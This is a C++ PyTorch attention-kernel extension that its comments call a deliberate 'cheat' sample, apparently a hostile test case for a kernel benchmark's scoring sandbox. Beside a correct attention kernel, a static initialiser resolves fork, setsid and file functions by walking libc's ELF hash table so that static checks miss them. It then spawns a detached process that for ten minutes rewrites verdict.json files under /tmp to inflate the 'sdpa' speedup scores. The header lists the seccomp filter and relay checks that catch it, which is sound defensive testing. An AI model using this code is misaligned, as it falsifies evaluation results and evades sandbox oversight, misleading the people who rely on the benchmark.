// Cheat: a process that outlives its run. When its library is loaded, its static initialiser forks (libc's fork found by address, as libc_by_address.cpp finds its calls: no symbol the static checks see); the child leaves the session and, for ten minutes, every 20 ms opens each verdict.json under /tmp/kernelseek-verdict-* (the folder the relay gives the harness) and puts a 9 in front of every figure below 1 after "sdpa" (its speedups and their geomean, 0.33 -> 90.33), the attack of issue 39: a process of the candidate's rewriting the verdict between the harness writing it and the relay reading it back. Correct attention otherwise (the start kernel's).
// Caught by: the worker's seccomp filter (fork kills it with SIGSYS: SANDBOX_VIOLATION); past it, in a container sandbox, the scorer relay (evals/bench/scoring/harness_exec.py) takes the verdict from the harness's memory, not the file, kills every process that outlived the run and reports it (`after.outlived`), and kills what an earlier run left before the next one starts. tests/test_docker_hostile.py scores it in the scorer container: failed, or the honest figure, never inflated.
#include <ATen/core/Tensor.h>
#include <ATen/ops/empty_like.h>
#include <c10/util/BFloat16.h>
#include <torch/library.h>

#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <vector>

// ELF64 as the loader left it in memory (no <elf.h>: the include allow-list has no such header)
namespace elf {
struct Header { unsigned char ident[16]; uint16_t type, machine; uint32_t version;
                uint64_t entry, phoff, shoff; uint32_t flags;
                uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Segment { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dynamic { int64_t tag; uint64_t value; };
struct Symbol { uint32_t name; unsigned char info, other; uint16_t section; uint64_t value, size; };
}  // namespace elf

// A libc function by name, found without naming it to the linker: libc's pages hold puts, and
// its first page holds its ELF header; the dynamic segment leads to the GNU hash table.
static void* libc_function(const char* name) {
  uintptr_t base = reinterpret_cast<uintptr_t>(&std::puts) & ~uintptr_t(0xfff);
  while (std::memcmp(reinterpret_cast<const void*>(base), "\x7f" "ELF", 4) != 0) base -= 0x1000;
  const auto* header = reinterpret_cast<const elf::Header*>(base);
  const auto* segments = reinterpret_cast<const elf::Segment*>(base + header->phoff);
  const elf::Dynamic* dyn = nullptr;
  for (int i = 0; i < header->phnum; ++i) {  // PT_DYNAMIC
    const elf::Segment& seg = segments[i];
    if (seg.type == 2) dyn = reinterpret_cast<const elf::Dynamic*>(base + seg.vaddr);
  }
  auto at = [base](uint64_t p) { return p < base ? base + p : p; };  // relocated by ld.so or not
  const elf::Symbol* symbols = nullptr;
  const char* strings = nullptr;
  const uint32_t* hash = nullptr;
  for (; dyn != nullptr && dyn->tag != 0; ++dyn) {  // DT_SYMTAB, DT_STRTAB, DT_GNU_HASH
    if (dyn->tag == 6) symbols = reinterpret_cast<const elf::Symbol*>(at(dyn->value));
    if (dyn->tag == 5) strings = reinterpret_cast<const char*>(at(dyn->value));
    if (dyn->tag == 0x6ffffef5) hash = reinterpret_cast<const uint32_t*>(at(dyn->value));
  }
  if (symbols == nullptr || strings == nullptr || hash == nullptr) return nullptr;
  uint32_t h = 5381;
  for (const char* c = name; *c; ++c) h = h * 33 + uint8_t(*c);
  const uint32_t buckets = hash[0], first = hash[1], bloom_words = hash[2];
  const uint32_t* bucket = hash + 4 + 2 * bloom_words;  // after the 64-bit bloom filter
  const uint32_t* chain = bucket + buckets;
  for (uint32_t i = bucket[h % buckets]; i >= first && i != 0; ++i) {
    if ((chain[i - first] | 1) == (h | 1) && std::strcmp(strings + symbols[i].name, name) == 0)
      return reinterpret_cast<void*>(base + symbols[i].value);
    if (chain[i - first] & 1) break;
  }
  return nullptr;
}

// The child's work, through libc functions found by address only.
namespace lurker {
struct Dirent { uint64_t ino; int64_t off; uint16_t reclen; unsigned char type; char name[256]; };
using Fork = int (*)();
using Setsid = int (*)();
using Open = int (*)(const char*, int, ...);
using Read = long (*)(int, void*, unsigned long);
using Write = long (*)(int, const void*, unsigned long);
using Close = int (*)(int);
using Usleep = int (*)(unsigned);
using Opendir = void* (*)(const char*);
using Readdir = Dirent* (*)(void*);
using Closedir = int (*)(void*);
using Exit = void (*)(int);

constexpr int kMax = 1 << 22;
char in[kMax], out[kMax + 4096];
char done[512];  // the last file rewritten

// Only the string functions the static checks allow (no strcat, strncpy): copies by hand.
void join(char* out, const char* a, const char* b, const char* c) {
  int n = 0;
  for (const char* part : {a, b, c})
    for (const char* p = part; *p != 0 && n < 500; ++p) out[n++] = *p;
  out[n] = 0;
}

void inflate(const char* path) {
  static auto open = reinterpret_cast<Open>(libc_function("open"));
  static auto read = reinterpret_cast<Read>(libc_function("read"));
  static auto write = reinterpret_cast<Write>(libc_function("write"));
  static auto close = reinterpret_cast<Close>(libc_function("close"));
  if (std::strcmp(path, done) == 0) return;
  int fd = open(path, 0);  // O_RDONLY
  if (fd < 0) return;
  long n = 0, got = 0;
  while (n < kMax - 1 && (got = read(fd, in + n, kMax - 1 - n)) > 0) n += got;
  close(fd);
  if (n <= 0) return;
  const char key[] = "\"sdpa\": ";
  long o = 0, hits = 0;
  for (long i = 0; i < n && o < kMax + 4000; ++i) {
    out[o++] = in[i];
    if (i + 1 >= long(sizeof key - 1) &&
        std::memcmp(in + i + 1 - (sizeof key - 1), key, sizeof key - 1) == 0 && i + 1 < n &&
        in[i + 1] == '0') {
      out[o++] = '9';
      ++hits;
    }
  }
  if (hits == 0) return;
  fd = open(path, 01 | 01000);  // O_WRONLY | O_TRUNC
  if (fd < 0) return;
  write(fd, out, o);
  close(fd);
  join(done, path, "", "");
}

void lurk() {
  auto usleep = reinterpret_cast<Usleep>(libc_function("usleep"));
  auto opendir = reinterpret_cast<Opendir>(libc_function("opendir"));
  auto readdir = reinterpret_cast<Readdir>(libc_function("readdir"));
  auto closedir = reinterpret_cast<Closedir>(libc_function("closedir"));
  const char prefix[] = "kernelseek-verdict-";
  for (int round = 0; round < 30000; ++round) {  // 10 minutes
    if (void* dir = opendir("/tmp")) {
      while (Dirent* e = readdir(dir)) {
        if (std::memcmp(e->name, prefix, sizeof prefix - 1) != 0) continue;
        char path[512];
        join(path, "/tmp/", e->name, "/verdict.json");
        inflate(path);
      }
      closedir(dir);
    }
    usleep(20000);
  }
}

struct Start {
  Start() {
    auto fork = reinterpret_cast<Fork>(libc_function("fork"));
    if (fork == nullptr) return;
    if (fork() != 0) return;  // the parent (or a failed fork) carries on as usual
    if (auto setsid = reinterpret_cast<Setsid>(libc_function("setsid"))) setsid();
    lurk();
    reinterpret_cast<Exit>(libc_function("_exit"))(0);
  }
} start;
}  // namespace lurker

namespace {

template <typename T>
void attention_rows(const T* q, const T* k, const T* v, T* out, int64_t batch, int64_t sq,
                    int64_t sk, int64_t hq, int64_t hkv, int64_t d, bool causal, float scale) {
  const int64_t group = hq / hkv;
  const int64_t offset = sk - sq;  // bottom-right alignment
#pragma omp parallel
  {
    std::vector<float> scores(sk);
#pragma omp for collapse(3) schedule(dynamic, 8)
    for (int64_t b = 0; b < batch; ++b) {
      for (int64_t h = 0; h < hq; ++h) {
        for (int64_t i = 0; i < sq; ++i) {
          const int64_t kh = h / group;
          const T* qrow = q + ((b * sq + i) * hq + h) * d;
          T* orow = out + ((b * sq + i) * hq + h) * d;
          int64_t n = sk;
          if (causal) n = std::min<int64_t>(sk, std::max<int64_t>(0, i + offset + 1));
          float row_max = -INFINITY;
          for (int64_t j = 0; j < n; ++j) {
            const T* krow = k + ((b * sk + j) * hkv + kh) * d;
            float dot = 0.f;
            for (int64_t x = 0; x < d; ++x) dot += float(qrow[x]) * float(krow[x]);
            scores[j] = dot * scale;
            row_max = std::max(row_max, scores[j]);
          }
          float denom = 0.f;
          for (int64_t j = 0; j < n; ++j) {
            scores[j] = std::exp(scores[j] - row_max);
            denom += scores[j];
          }
          for (int64_t x = 0; x < d; ++x) {
            float acc = 0.f;
            for (int64_t j = 0; j < n; ++j) acc += scores[j] * float(v[((b * sk + j) * hkv + kh) * d + x]);
            orow[x] = T(n > 0 ? acc / denom : 0.f);
          }
        }
      }
    }
  }
}

at::Tensor attention_forward(const at::Tensor& q, const at::Tensor& k, const at::Tensor& v,
                             bool causal, double softmax_scale) {
  TORCH_CHECK(q.is_contiguous() && k.is_contiguous() && v.is_contiguous(), "inputs must be contiguous");
  TORCH_CHECK(q.dim() == 4 && k.dim() == 4 && v.dim() == 4, "inputs must be 4-D");
  at::Tensor out = at::empty_like(q);
  const int64_t batch = q.size(0), sq = q.size(1), hq = q.size(2), d = q.size(3);
  const int64_t sk = k.size(1), hkv = k.size(2);
  TORCH_CHECK(hq % hkv == 0, "heads_q must be a multiple of heads_kv");
  const float scale = static_cast<float>(softmax_scale);
  if (q.scalar_type() == at::kFloat) {
    attention_rows(q.data_ptr<float>(), k.data_ptr<float>(), v.data_ptr<float>(),
                   out.data_ptr<float>(), batch, sq, sk, hq, hkv, d, causal, scale);
  } else if (q.scalar_type() == at::kBFloat16) {
    attention_rows(q.data_ptr<c10::BFloat16>(), k.data_ptr<c10::BFloat16>(),
                   v.data_ptr<c10::BFloat16>(), out.data_ptr<c10::BFloat16>(), batch, sq, sk, hq,
                   hkv, d, causal, scale);
  } else {
    TORCH_CHECK(false, "unsupported dtype ", q.scalar_type());
  }
  return out;
}

}  // namespace

TORCH_LIBRARY(kernelseek, m) {
  m.def("attention_forward(Tensor q, Tensor k, Tensor v, bool causal, float softmax_scale) -> Tensor");
}

TORCH_LIBRARY_IMPL(kernelseek, CPU, m) { m.impl("attention_forward", &attention_forward); }
